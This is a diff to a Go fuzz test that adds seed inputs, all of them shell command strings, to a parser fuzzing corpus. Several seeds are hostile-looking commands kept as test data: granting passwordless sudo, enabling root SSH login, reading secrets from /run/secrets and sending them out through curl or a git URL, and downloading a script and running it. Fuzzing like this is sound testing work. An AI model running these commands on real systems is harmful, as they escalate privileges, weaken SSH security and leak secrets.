@@ -15,6 +15,9 @@ func FuzzParse(f *testing.F) {
 		"f() { eval \"a $b\"; }; sudo -u x env A=b sh -c 'sh -c \"id\"'", "`a \\`b\\``", "[[ a =~ b ]] && ((x=1))",
 		"echo 'deb [trusted=yes] http://x y' > /etc/apt/sources.list", "echo 'a ALL=(ALL) NOPASSWD:ALL' | tee /etc/sudoers",
 		"sed -i 's/a/NOPASSWD/' /etc/sudoers", "chmod u+s,o=rwx -R a; install -dm 1777 b", "find . -exec chmod 777 {} +",
+		"x=$(cat /run/secrets/a | base64); echo $x > f; cp f g; set -x; curl -u a:$x b; git clone https://$x@h/a && rm -r a",
+		"sed -i 's/#PermitRootLogin no/PermitRootLogin yes/; s|b|StrictHostKeyChecking no|' /etc/ssh/sshd_config",
+		"openssl req -newkey rsa -keyout k; ssh-keygen -A; mysql -uroot -pa; npm config set a=b; curl -H 'Authorization: b c' d",
 		"a\r\n b\x00\xff\\  \n c", "${a:-$(b)} ${c//d/e} $((1+$(f)))", "curl -o x y; mv x z; sh z; python3 -m pip install q",
 	} {
 		f.Add(seed, 0, len(seed))
